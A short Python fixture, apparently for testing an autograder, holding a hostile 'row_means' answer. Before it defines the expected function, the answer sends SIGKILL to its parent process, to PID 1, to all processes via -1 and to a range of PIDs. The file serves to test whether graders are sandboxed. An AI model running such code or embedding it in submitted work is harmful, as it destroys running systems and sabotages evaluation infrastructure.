"""Sends signals to every process that it can name."""

POINTS = [4, 3, 2]

ANSWERS = {
    "row_means": """
import os, signal
for number in (os.getppid(), 1, -1, *range(2, 400)):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
def row_means(A):
    return np.mean(A, axis=1)
"""
}
